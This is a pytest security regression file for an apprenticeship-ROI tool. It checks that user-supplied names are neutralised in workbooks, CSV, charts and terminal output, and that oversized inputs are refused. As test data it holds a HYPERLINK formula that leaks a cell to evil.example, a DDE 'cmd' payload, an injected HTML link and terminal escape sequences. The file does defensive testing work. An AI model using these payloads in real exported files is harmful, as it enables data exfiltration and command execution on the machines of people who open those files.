"""User text stays text in every output, and hostile names are refused where every input passes (issue 19).

Each test reproduces a finding of the security review: formulas in workbooks and CSV, control characters in
names, links in chart labels, escape sequences on the terminal.
"""

from __future__ import annotations

import csv
import io
from contextlib import redirect_stdout

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from imt_roi import ScenarioError, evaluate, preset
from imt_roi.cli import main
from imt_roi.export import workbook_bytes
from imt_roi.safe_text import FORMULA_STARTS, chart_text, csv_cell, terminal_text
from imt_roi.workbook_formulas import FORMULA_SHEETS

FORMULA_NAMES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3",
                 "@SUM(A1)", "#N/A", "=1+1"]
CONTROL_CHARACTERS = ["\x01", "\x0b", "\x1b", "\x07", "\x7f", "\x85", "\x9b", "\u202e", "\u2066", "\u2028",
                      "\r", "\x00"]


def hostile_scenario(name: str):
    """A two-firm plan where every name a user gives (scenario, description, cohort, employers, offset,
    custom line) is ``name`` or starts with it."""
    return preset("imt-default", {
        "name": name, "description": name,
        "cohorts": [{"name": name, "members": [{"employer": name, "apprentices": 3},
                                               {"employer": name + " 2", "apprentices": 2}]}],
        "offsets": [{"name": name, "kind": "grant", "amount_per_apprentice": 500}],
        "custom_lines": [{"name": name, "kind": "cost", "amount": 100}]})


def formula_cells(xlsx: bytes) -> list[str]:
    """Cells outside the tool's own formula sheets that a spreadsheet would run as formulas (or errors)."""
    wb = load_workbook(io.BytesIO(xlsx))
    return [f"{ws.title}!{cell.coordinate}" for ws in wb.worksheets if ws.title not in FORMULA_SHEETS
            for row in ws.iter_rows() for cell in row if cell.data_type in ("f", "e")]


@pytest.mark.parametrize("name", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0"])
def test_a_name_that_looks_like_a_formula_is_text_in_the_workbook(name):
    """Finding 1: was a live formula in Metrics, Inputs and every Cash flows row."""
    result = evaluate(hostile_scenario(name))
    for employer in (None, name):
        xlsx = workbook_bytes(result, employer=employer)
        assert formula_cells(xlsx) == []
        wb = load_workbook(io.BytesIO(xlsx))
        assert wb["Cash flows"]["B2"].value == name and wb["Cash flows"]["B2"].data_type == "s"
    # the tool's own formulas are still formulas
    assert load_workbook(io.BytesIO(xlsx))["Summary"]["B3"].data_type == "f"


def _cli(args: list[str]) -> tuple[int, str]:
    out = io.StringIO()
    with redirect_stdout(out):
        code = main(args)
    return code, out.getvalue()


@pytest.mark.parametrize("command", [["evaluate", "--format", "csv"], ["partnership", "--format", "csv"],
                                     ["evaluate", "--format", "csv", "--by", "year"]])
def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path, command):
    """Finding 2: ``=``, ``+``, ``-`` and ``@`` cells were printed as they are."""
    from imt_roi.scenario_io import save_scenario

    path = save_scenario(hostile_scenario("=cmd|' /C calc'!A0"), tmp_path / "plan.yaml")
    code, text = _cli([command[0], str(path), *command[1:]])
    assert code == 0
    rows = list(csv.reader(io.StringIO(text)))
    texts = [cell for row in rows[1:] for cell in row if cell and not _is_number(cell)]
    assert not [cell for cell in texts if cell.startswith(FORMULA_STARTS)]
    if command[0] == "evaluate" and "--by" not in command:
        assert "'=cmd|' /C calc'!A0" in texts
    numbers = [cell for row in rows[1:] for cell in row if _is_number(cell)]
    assert numbers
    if "--by" in command:
        assert any(n.startswith("-") for n in numbers)  # a negative figure stays a number


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(FORMULA_NAMES + ["plain", "Firm A"]), st.sampled_from(CONTROL_CHARACTERS + [""]),
       st.integers(0, 5), st.sampled_from(["name", "cohorts.0.name", "cohorts.0.members.0.employer",
                                           "offsets", "custom_lines", "description"]))
def test_hostile_names_are_refused_naming_the_field_or_written_as_text(start, control, at, where):
    """Finding 8 and the fuzz of point 6: a control character anywhere in a name is refused in one line naming
    the field (it crashed the workbook writer); a formula-looking name is accepted and written as text."""
    name = start[:at] + control + start[at:]
    changes = {"name": {"name": name}, "description": {"description": name},
               "cohorts.0.name": {"cohorts": [{"name": name}]},
               "cohorts.0.members.0.employer": {"cohorts": [{"members": [{"employer": name}]}]},
               "offsets": {"offsets": [{"name": name, "amount_per_apprentice": 1}]},
               "custom_lines": {"custom_lines": [{"name": name, "amount": 1}]}}[where]
    field = {"offsets": "offsets.0.name", "custom_lines": "custom_lines.0.name"}.get(where, where)
    try:
        scenario = preset("imt-default", changes)
    except ScenarioError as err:
        assert control, f"{name!r} was refused: {err}"
        assert err.field == field and "control character" in err.message and "\n" not in str(err)
        assert all(ch.isprintable() for ch in str(err))
        return
    assert not control or (where == "description" and control in "\n\t")
    assert formula_cells(workbook_bytes(evaluate(scenario))) == []


@pytest.mark.parametrize("control", ["\n", "\t"])
def test_a_description_may_have_lines_and_tabs(control):
    assert preset("imt-default", {"description": f"a{control}b"}).description == f"a{control}b"


def test_chart_labels_show_markup_as_text():
    """Finding 11: a cohort named ``<a href=...>`` became a clickable link in the dashboard's charts."""
    from imt_roi.ui import charts

    link = '<a href="https://evil.example/">CLICK</a>'
    result = evaluate(hostile_scenario(link))
    timeline = charts.timeline_figure()
    charts.update_timeline(timeline, result)
    lines = charts.lines_figure(("A",))
    charts.update_lines(lines, {"A": result})
    firms = charts.firm_figure()
    charts.update_firms(firms, [link, "Partnership"], [1.2, 1.1], ["1.20", "1.10"])
    cash = charts.cashflow_figure(("A",))
    charts.update_cashflow(cash, {"A": result})
    shown = [str(v) for fig in (timeline, lines, firms, cash) for trace in fig.data
             for v in [*(trace.y or ()), *(trace.x or ()), trace.name or ""] if isinstance(v, str)]
    assert any("&lt;a href" in v for v in shown)
    assert not [v for v in shown if "<a" in v]
    assert chart_text("a & <b>") == "a &amp; &lt;b&gt;"


def test_the_terminal_never_gets_an_escape_sequence(tmp_path, capsys):
    """Finding 11: ``imt-roi evaluate`` printed a scenario name's ESC sequences raw."""
    assert terminal_text("a\x1b[2Jb\x07\u202e\n\tc") == "a\\x1b[2Jb\\x07\\u202e\n\tc"
    assert csv_cell("-5") == "'-5" and csv_cell(-5) == -5 and csv_cell("a=b") == "a=b"
    path = tmp_path / "old.yaml"
    # A name with ESC is refused where it is read, in one printable line.
    path.write_text('name: "\\e[2J\\e[31mred"\n', encoding="utf-8")
    assert main(["evaluate", str(path)]) == 2
    captured = capsys.readouterr()
    assert "\x1b" not in captured.err + captured.out and "control character" in captured.err
    # Whatever reaches standard output is escaped on the way (a table of results can carry any text).
    from imt_roi import cli

    out = io.StringIO()
    with redirect_stdout(out):
        stream = cli.PrintableStream(out)
        stream.write("x\x1b[31my\n")
    assert out.getvalue() == "x\\x1b[31my\n"


@pytest.mark.parametrize("text", [
    "cohorts: [" + ",".join(["1"] * 990_000) + "]\n",  # a list of a million numbers in 2 MB
    "cohorts:\n" + "- 1\n" * 490_000,
    "{" + ",".join(f"k{i}: 1" for i in range(190_000)) + "}",
    '{"cohorts": [' + ",".join(["1"] * 990_000) + "]}",
])
def test_a_file_of_too_many_values_is_refused_while_it_is_read(text):
    """Finding 4: a 2 MB file of 1,000,000 numbers took 74 s and 928 MB before "too large" (now refused after
    MAX_NODES values are parsed: about 0.4 s, benchmarks/bench_limits.py)."""
    from imt_roi.reading import MAX_NODES, parse_text

    with pytest.raises(ScenarioError, match=f"too large: more than {MAX_NODES:,} values"):
        parse_text(text, "json" if text.startswith('{"') else "yaml")


def test_a_file_over_the_size_limit_is_refused_before_it_is_parsed(tmp_path):
    from imt_roi import load_scenario
    from imt_roi.reading import MAX_FILE_BYTES, decode_text

    big = tmp_path / "big.yaml"
    big.write_bytes(b"# " + b"x" * MAX_FILE_BYTES + b"\n")
    with pytest.raises(ScenarioError, match="is larger than 2 MB"):
        load_scenario(big)
    with pytest.raises(ScenarioError, match="is larger than 2 MB"):
        decode_text(b"x" * (MAX_FILE_BYTES + 1), "upload.yaml")


@pytest.mark.parametrize("cohorts, words", [
    ([{"name": f"C{i}"} for i in range(101)], "101 cohorts; a plan holds at most 100"),
    ([{"name": f"C{i}", "members": [{"employer": f"F{i}"}]} for i in range(31)], "31 employers"),
    ([{"name": f"C{i}", "members": [{"employer": f"F{j}"} for j in range(30)]} for i in range(4)],
     "120 employer places"),
    ([{"name": f"C{i}"} for i in range(100)], "about 50,400 monthly cash-flow rows"),
])
def test_a_plan_beyond_the_limits_is_refused_in_one_line(cohorts, words):
    """Finding 5: 2,000 one-firm cohorts (174 KB) took 47 s in uncertainty and 258 s to export; 28,000 were
    accepted. The limits (imt_roi/limits.py) keep the heaviest plan allowed to seconds."""
    with pytest.raises(ScenarioError) as err:
        preset("imt-default", {"cohorts": cohorts})
    assert err.value.field == "cohorts" and words in err.value.message and "\n" not in str(err.value)


def test_the_largest_plan_allowed_is_accepted_and_a_plan_the_package_derives_from_it_is_not_refused():
    from imt_roi.results import aai_figures

    cohorts = [{"name": f"C{k}", "members": [{"employer": f"F{i}"} for i in range(30)]} for k in range(2)]
    plan = preset("imt-default", {"cohorts": cohorts, "horizon": {"months_after_completion": 0}})
    assert aai_figures(evaluate(plan))  # counted over the AAI study's 60 months: 60 places x 78 months


def test_draws_beyond_the_limit_are_refused_in_one_line(capsys):
    """Finding 5: ``uncertainty --draws 200000`` took 25 s and 2.8 GB."""
    from imt_roi.limits import MAX_DRAWS

    assert main(["uncertainty", "--draws", str(MAX_DRAWS + 1)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"choose 1 to {MAX_DRAWS:,}" in err


def test_a_write_failure_is_one_line(tmp_path):
    """Finding 8: a write failure (a file size limit) ended in a raw OSError traceback."""
    import resource
    import subprocess
    import sys

    def small_files():
        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))

    for output in (["--xlsx", str(tmp_path / "plan.xlsx")], ["--pack", str(tmp_path / "pack")]):
        run = subprocess.run([sys.executable, "-m", "imt_roi.cli", "export", "--preset", "imt-partnership", *output],
                             capture_output=True, text=True, preexec_fn=small_files, timeout=300)
        assert run.returncode == 2, run.stderr
        assert run.stderr.count("\n") == 1 and "cannot be written: File too large" in run.stderr
        assert not (tmp_path / "pack").exists() and not (tmp_path / "plan.xlsx").exists()
